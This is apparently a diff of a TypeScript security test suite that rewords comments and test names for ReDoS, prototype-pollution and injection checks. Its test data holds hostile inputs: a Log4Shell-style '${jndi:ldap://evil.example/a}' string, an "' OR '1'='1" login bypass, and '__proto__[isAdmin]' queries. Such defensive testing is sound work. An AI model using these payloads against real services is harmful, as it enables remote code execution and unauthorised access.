@@ -1,4 +1,4 @@
-/** Values that are not what they look like. */
+/** Attacks with input values: slow regular expressions, polluted prototypes, injection. */
 import { strict as assert } from "node:assert";
 import { check } from "recheck";
 import { call, eventually } from "../../support/http.ts";
@@ -9,7 +9,7 @@ export function regexes(get: () => Target): void {
   const { literals, made } = findRegexes();
   const all = [...literals, ...Object.entries(composed).map(([place, regex]) => ({ place, regex }))];
 
-  it("none takes longer than the length of its input allows, as recheck finds", async () => {
+  it("none is superlinear, as recheck finds", async () => {
     assert.ok(literals.length > 30, `${literals.length} found`);
     assert.equal(made.length, Object.keys(composed).length, made.join(" "));
     const results = await Promise.all(
@@ -24,10 +24,10 @@ export function regexes(get: () => Target): void {
     );
   });
 
-  it("each is done with 50 kB of the worst that we know within 50 ms", () => {
+  it("each handles 50 kB of the worst known input within 50 ms", () => {
     for (const { place, regex } of all) {
       for (const text of EVIL) {
-        // A regex with the flags g or y goes on where it was.
+        // A regex with the flag g or y continues where its last match ended.
         regex.lastIndex = 0;
         const begun = performance.now();
         regex.test(text);
@@ -37,7 +37,7 @@ export function regexes(get: () => Target): void {
     }
   });
 
-  it("nor does the service, where such a text comes in: others wait no longer for their answer", async () => {
+  it("the service handles such a text without delaying other requests", async () => {
     const target = get();
     const login = await target.login();
     const send = (text: string): Promise<unknown>[] => [
@@ -93,7 +93,7 @@ export function pollution(get: () => Target): void {
   });
 
   const post = (path: string, body: unknown) => {
-    // JSON.stringify keeps an own `__proto__`, which JSON.parse makes.
+    // JSON.parse makes `__proto__` an own property, and JSON.stringify keeps it.
     return get().ask(path, { method: "POST", body, headers: login.headers });
   };
   const payloads = [
@@ -116,7 +116,7 @@ export function pollution(get: () => Target): void {
     });
   }
 
-  it("neither a login nor a refresh is changed by it", async () => {
+  it("it changes neither a login nor a refresh", async () => {
     for (const payload of payloads) {
       const body = JSON.parse(`{"username":"nobody","password":"wrong",${payload.slice(1)}`) as unknown;
       assert.equal((await post("/api/auth/login", body)).status, 400);
@@ -124,7 +124,7 @@ export function pollution(get: () => Target): void {
     }
   });
 
-  it("in a query it is nothing but a name, and a parameter that comes twice is none", async () => {
+  it("in a query it is only a name, and a parameter that comes twice is refused", async () => {
     for (const query of [
       "a[__proto__][isAdmin]=1",
       "__proto__[isAdmin]=1",
@@ -134,7 +134,7 @@ export function pollution(get: () => Target): void {
         const { status } = await get().ask(`${path}?${query}&topics[__proto__]=x`, {
           headers: login.headers,
         });
-        // The list of connections takes no parameter that it does not know; the others look only for their own.
+        // The list of connections refuses unknown parameters; the other routes read only their own.
         assert.equal(status, path.endsWith("connections") ? 400 : 200, `${path}?${query}`);
       }
     }
@@ -146,7 +146,7 @@ export function pollution(get: () => Target): void {
       );
   });
 
-  it("an event's data may hold it, and is passed on as it came", async () => {
+  it("an event's data may contain it, and is passed on unchanged", async () => {
     const start = await get().position();
     const sent = payloads.map((payload) => JSON.parse(payload) as unknown);
     for (const data of sent) assert.equal((await post("/api/events", { type: "carried", data })).status, 201);
@@ -160,7 +160,7 @@ export function pollution(get: () => Target): void {
     );
   });
 
-  it("no object of a replica has what was sent", async () => {
+  it("no object in a replica has the polluted property", async () => {
     for (const backend of get().backends) {
       const seen = await insideService<unknown>(
         backend,
@@ -185,7 +185,7 @@ export function injection(get: () => Target): void {
     "%s%n%d ${jndi:ldap://evil.example/a}",
   ];
 
-  it("is a text like any other in every field that reaches the database", async () => {
+  it("is ordinary text in every field that reaches the database", async () => {
     const target = get();
     const login = await target.login();
     const post = (path: string, body: unknown, headers = {}) =>
@@ -208,7 +208,7 @@ export function injection(get: () => Target): void {
         assert.ok(status < 500 && status >= 200, `${path}: ${status}`);
       }
     }
-    // Names that nobody has: fewer than one address may try, and of the kind that would let anybody in.
+    // Names that no user has, of the kind that a faulty query would let in; fewer than one address may try.
     for (const username of texts.slice(0, 3)) {
       const { status } = await post("/api/auth/login", { username, password: "' OR '1'='1" });
       assert.equal(status, 401);
@@ -217,7 +217,7 @@ export function injection(get: () => Target): void {
     assert.ok(await target.isIn((await target.login()).cookie), "the users are still there");
   });
 
-  it("each line of the replicas' logs and of the edge's is one JSON object, whatever was in it", async () => {
+  it("each log line of the replicas and the edge is one JSON object, whatever was sent", async () => {
     const target = get();
     for (const text of texts) {
       const query = encodeURIComponent(text);
